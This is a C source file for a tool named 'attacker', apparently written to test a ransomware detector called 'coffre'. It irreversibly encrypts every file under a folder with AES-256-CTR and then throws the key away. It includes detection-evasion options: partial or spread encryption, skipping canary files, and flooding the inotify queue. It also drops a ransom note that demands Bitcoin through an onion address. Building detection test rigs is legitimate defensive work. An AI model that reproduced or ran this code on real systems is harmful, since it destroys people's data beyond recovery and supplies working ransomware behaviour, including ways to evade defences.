/* attacker [options] FOLDER: encrypts the files under FOLDER as ransomware does, with
 * AES-256-CTR (OpenSSL's EVP) under a random key that is thrown away, to test coffre's
 * detection. Prints the number of files encrypted; exits 0 (1 on a usage or set-up error).
 *   --in-place		overwrite each file with its ciphertext (the default)
 *   --new-then-delete	write NAME.locked, then unlink NAME
 *   --rename EXT		encrypt in place, then rename NAME to NAME.EXT
 *   --head N		encrypt only the first N bytes
 *   --spread PERCENT	encrypt PERCENT % of each file's 4 KiB blocks, spread evenly (block
 *			i when floor((i + 1) P / 100) > floor(i P / 100): at 50, the odd ones);
 *			with --head, the head too
 *   --base64		write the ciphertext in base64 (64-column lines)
 *   --delay-ms N		wait N ms between files
 *   --largest-first	the largest files first (else by path)
 *   --skip-first-sorted	leave alone names that sort before digits and letters ('!', '#',
 *			'-', '.'…): what a careful attacker does to step round canaries
 *   --note NAME		drop a ransom note NAME (an onion address, English and French) in
 *			each folder
 *   --flood N		first create and delete N small files in a scratch folder under
 *			FOLDER, to overflow an inotify queue
 *   --log FILE		a line per encrypted file: the time (s.ns since the epoch) it was
 *			done, and its path */
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <getopt.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <openssl/evp.h>
#include <openssl/rand.h>

#define BLOCK 4096
#define CHUNK (1 << 20)
#define BASE64_MAX (256u << 20)	/* files rewritten in base64 are read whole */

enum mode { IN_PLACE, NEW_THEN_DELETE, RENAME };

static struct {
	enum mode mode;
	const char *ext, *note, *log;
	uint64_t head;
	unsigned spread;	/* percent; 0: not spread */
	int base64, largest_first, skip_first;
	unsigned delay_ms, flood;
} opt;

static uint8_t KEY[32];
static FILE *LOG;

struct file {
	char *path;
	off_t size;
};
static struct file *FILES;
static size_t NFILES, CAPFILES;
static char **DIRS;
static size_t NDIRS, CAPDIRS;

static void *grow(void *p, size_t *cap, size_t n, size_t size)
{
	if (n < *cap)
		return p;
	*cap = *cap ? 2 * *cap : 64;
	p = realloc(p, *cap * size);
	if (!p) {
		perror("attacker");
		exit(1);
	}
	return p;
}

static int collect(const char *path, const struct stat *st, int type, struct FTW *f)
{
	(void)f;
	if (type == FTW_D) {
		DIRS = grow(DIRS, &CAPDIRS, NDIRS, sizeof *DIRS);
		DIRS[NDIRS++] = strdup(path);
		return 0;
	}
	if (type != FTW_F || !S_ISREG(st->st_mode) || st->st_size == 0)
		return 0;
	const char *base = strrchr(path, '/');
	base = base ? base + 1 : path;
	if (opt.skip_first && (unsigned char)base[0] < '0')
		return 0;
	if (opt.log && strcmp(path, opt.log) == 0)
		return 0;
	FILES = grow(FILES, &CAPFILES, NFILES, sizeof *FILES);
	FILES[NFILES].path = strdup(path);
	FILES[NFILES++].size = st->st_size;
	return 0;
}

static int by_path(const void *a, const void *b)
{
	return strcmp(((const struct file *)a)->path, ((const struct file *)b)->path);
}

static int by_size(const void *a, const void *b)
{
	const struct file *x = a, *y = b;
	if (x->size != y->size)
		return x->size > y->size ? -1 : 1;
	return strcmp(x->path, y->path);
}

/* Whether the byte at offset ${off} is to be encrypted. */
static int chosen(uint64_t off)
{
	if (opt.head && off < opt.head)
		return 1;
	if (opt.spread) {
		uint64_t i = off / BLOCK;
		return (i + 1) * opt.spread / 100 > i * opt.spread / 100;
	}
	return !opt.head;
}

/* Encrypts the chosen bytes of ${p} (${n} bytes at file offset ${off}): CTR mode is a
 * keystream, so the stream is run over every byte and applied to the chosen ones only. */
static int crypt_chunk(EVP_CIPHER_CTX *c, uint8_t *p, size_t n, uint64_t off)
{
	static uint8_t ks[CHUNK];
	int len;
	memcpy(ks, p, n);
	if (!EVP_EncryptUpdate(c, ks, &len, ks, (int)n) || (size_t)len != n)
		return -1;
	for (size_t i = 0; i < n; i++)
		if (chosen(off + i))
			p[i] = ks[i];
	return 0;
}

static int write_all(int fd, const uint8_t *p, size_t n, off_t off)
{
	while (n > 0) {
		ssize_t w = off >= 0 ? pwrite(fd, p, n, off) : write(fd, p, n);
		if (w < 0) {
			if (errno == EINTR)
				continue;
			return -1;
		}
		p += w;
		n -= (size_t)w;
		if (off >= 0)
			off += w;
	}
	return 0;
}

/* Reads ${in}, encrypts, writes to ${out} at the same offsets (the same fd for in place)
 * or, for base64, the whole ciphertext in base64 from offset 0. */
static int transform(int in, int out, off_t size)
{
	static uint8_t buf[CHUNK];
	uint8_t iv[16];
	int r = -1;
	uint8_t *all = NULL;
	EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new();
	if (!c || RAND_bytes(iv, sizeof iv) != 1 ||
		!EVP_EncryptInit_ex(c, EVP_aes_256_ctr(), NULL, KEY, iv))
		goto out;
	if (opt.base64 && (uint64_t)size > BASE64_MAX) {
		errno = EFBIG;
		goto out;
	}
	if (opt.base64 && !(all = malloc((size_t)size)))
		goto out;
	uint64_t off = 0;
	for (;;) {
		ssize_t n = pread(in, buf, sizeof buf, (off_t)off);
		if (n < 0 && errno == EINTR)
			continue;
		if (n < 0)
			goto out;
		if (n == 0 || (all && off + (uint64_t)n > (uint64_t)size))
			break;
		if (crypt_chunk(c, buf, (size_t)n, off))
			goto out;
		if (all)
			memcpy(all + off, buf, (size_t)n);
		else if (write_all(out, buf, (size_t)n, (off_t)off))
			goto out;
		off += (uint64_t)n;
	}
	if (all) {
		EVP_ENCODE_CTX *e = EVP_ENCODE_CTX_new();
		size_t cap = (size_t)off / 48 * 65 + 130;
		uint8_t *b64 = malloc(cap);
		int len = 0, last = 0, ok = e && b64;
		if (ok) {
			EVP_EncodeInit(e);
			ok = EVP_EncodeUpdate(e, b64, &len, all, (int)off) == 1;
		}
		if (ok) {
			EVP_EncodeFinal(e, b64 + len, &last);
			ok = write_all(out, b64, (size_t)(len + last), 0) == 0 &&
				ftruncate(out, len + last) == 0;
		}
		EVP_ENCODE_CTX_free(e);
		free(b64);
		if (!ok)
			goto out;
	}
	r = 0;
out:
	free(all);
	EVP_CIPHER_CTX_free(c);
	return r;
}

static int attack(const char *path, off_t size)
{
	int in = open(path, O_RDWR | O_CLOEXEC);
	if (in < 0)
		return -1;
	int r = -1;
	if (opt.mode == NEW_THEN_DELETE) {
		char *locked = malloc(strlen(path) + 8);
		if (!locked)
			goto out;
		sprintf(locked, "%s.locked", path);
		int out = open(locked, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
		if (out >= 0) {
			r = transform(in, out, size);
			if (close(out) || r)
				r = -1;
			else
				r = unlink(path);
		}
		free(locked);
		goto out;
	}
	if (transform(in, in, size) || fsync(in))
		goto out;
	if (opt.mode == RENAME) {
		char *to = malloc(strlen(path) + strlen(opt.ext) + 2);
		if (!to)
			goto out;
		sprintf(to, "%s.%s", path, opt.ext);
		int e = rename(path, to);
		free(to);
		if (e)
			goto out;
	}
	r = 0;
out:
	close(in);
	return r;
}

static void drop_note(const char *dir)
{
	static const char text[] =
		"!!! YOUR FILES HAVE BEEN ENCRYPTED !!!\n\n"
		"All your documents, databases and photos are encrypted. To decrypt them you need\n"
		"our private key. Download the Tor Browser and open\n"
		"http://vww6ybal4bd7szmgncyruucpgfkqahzddi37ktceo3ah7ngmcopnpyyd.onion/\n"
		"Pay 0.5 Bitcoin within 72 hours.\n\n"
		"!!! VOS FICHIERS ONT ÉTÉ CHIFFRÉS !!!\n"
		"Pour les déchiffrer, payez la rançon en bitcoins avec le navigateur Tor.\n";
	char path[4096];
	if (snprintf(path, sizeof path, "%s/%s", dir, opt.note) >= (int)sizeof path)
		return;
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0 || write_all(fd, (const uint8_t *)text, sizeof text - 1, -1))
		fprintf(stderr, "attacker: note '%s': %s\n", path, strerror(errno));
	if (fd >= 0)
		close(fd);
}

static int flood(const char *root)
{
	char dir[4096], path[4200];
	if (snprintf(dir, sizeof dir, "%s/.flood-XXXXXX", root) >= (int)sizeof dir ||
		!mkdtemp(dir))
		return -1;
	for (unsigned i = 0; i < opt.flood; i++) {
		snprintf(path, sizeof path, "%s/f%u", dir, i);
		int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
		if (fd < 0 || write(fd, "x", 1) != 1 || close(fd) || unlink(path))
			return -1;
	}
	return rmdir(dir);
}

static void pause_ms(unsigned ms)
{
	struct timespec t = { ms / 1000, (long)(ms % 1000) * 1000000 };
	while (nanosleep(&t, &t) && errno == EINTR)
		;
}

static void usage(void)
{
	fprintf(stderr, "usage: attacker [--in-place|--new-then-delete|--rename EXT] [--head N] "
		"[--spread PERCENT] [--base64] [--delay-ms N] [--largest-first] "
		"[--skip-first-sorted] [--note NAME] [--flood N] [--log FILE] FOLDER\n");
	exit(1);
}

static unsigned long long number(const char *s, unsigned long long max)
{
	char *end;
	errno = 0;
	unsigned long long v = strtoull(s, &end, 10);
	if (errno || end == s || *end || v > max || s[0] == '-')
		usage();
	return v;
}

int main(int argc, char **argv)
{
	static const struct option longs[] = {
		{ "in-place", no_argument, NULL, 'i' },
		{ "new-then-delete", no_argument, NULL, 'n' },
		{ "rename", required_argument, NULL, 'r' },
		{ "head", required_argument, NULL, 'h' },
		{ "spread", required_argument, NULL, 's' },
		{ "base64", no_argument, NULL, 'b' },
		{ "delay-ms", required_argument, NULL, 'd' },
		{ "largest-first", no_argument, NULL, 'L' },
		{ "skip-first-sorted", no_argument, NULL, 'S' },
		{ "note", required_argument, NULL, 'N' },
		{ "flood", required_argument, NULL, 'f' },
		{ "log", required_argument, NULL, 'l' },
		{ NULL, 0, NULL, 0 },
	};
	int c;
	while ((c = getopt_long(argc, argv, "", longs, NULL)) != -1) {
		switch (c) {
		case 'i': opt.mode = IN_PLACE; break;
		case 'n': opt.mode = NEW_THEN_DELETE; break;
		case 'r': opt.mode = RENAME; opt.ext = optarg; break;
		case 'h': opt.head = number(optarg, UINT64_MAX); break;
		case 's': opt.spread = (unsigned)number(optarg, 100); break;
		case 'b': opt.base64 = 1; break;
		case 'd': opt.delay_ms = (unsigned)number(optarg, 3600000); break;
		case 'L': opt.largest_first = 1; break;
		case 'S': opt.skip_first = 1; break;
		case 'N': opt.note = optarg; break;
		case 'f': opt.flood = (unsigned)number(optarg, 100000000); break;
		case 'l': opt.log = optarg; break;
		default: usage();
		}
	}
	if (optind != argc - 1 || (opt.note && strchr(opt.note, '/')) ||
		(opt.ext && (!*opt.ext || strchr(opt.ext, '/'))))
		usage();
	const char *root = argv[optind];
	if (RAND_bytes(KEY, sizeof KEY) != 1) {
		fprintf(stderr, "attacker: no random bytes\n");
		return 1;
	}
	if (opt.log && !(LOG = fopen(opt.log, "a"))) {
		fprintf(stderr, "attacker: '%s': %s\n", opt.log, strerror(errno));
		return 1;
	}
	if (opt.flood && flood(root)) {
		fprintf(stderr, "attacker: flood: %s\n", strerror(errno));
		return 1;
	}
	if (nftw(root, collect, 64, FTW_PHYS)) {
		fprintf(stderr, "attacker: '%s': %s\n", root, strerror(errno));
		return 1;
	}
	qsort(FILES, NFILES, sizeof *FILES, opt.largest_first ? by_size : by_path);
	for (size_t i = 0; opt.note && i < NDIRS; i++)
		drop_note(DIRS[i]);
	unsigned done = 0;
	for (size_t i = 0; i < NFILES; i++) {
		if (i > 0 && opt.delay_ms)
			pause_ms(opt.delay_ms);
		if (attack(FILES[i].path, FILES[i].size)) {
			fprintf(stderr, "attacker: '%s': %s\n", FILES[i].path, strerror(errno));
			continue;
		}
		done++;
		if (LOG) {
			struct timespec t;
			clock_gettime(CLOCK_REALTIME, &t);
			fprintf(LOG, "%lld.%09ld %s\n", (long long)t.tv_sec, t.tv_nsec, FILES[i].path);
			fflush(LOG);
		}
	}
	if (LOG && fclose(LOG))
		fprintf(stderr, "attacker: '%s': %s\n", opt.log, strerror(errno));
	printf("%u\n", done);
	for (size_t i = 0; i < NFILES; i++)
		free(FILES[i].path);
	for (size_t i = 0; i < NDIRS; i++)
		free(DIRS[i]);
	free(FILES);
	free(DIRS);
	return fflush(stdout) ? 1 : 0;
}
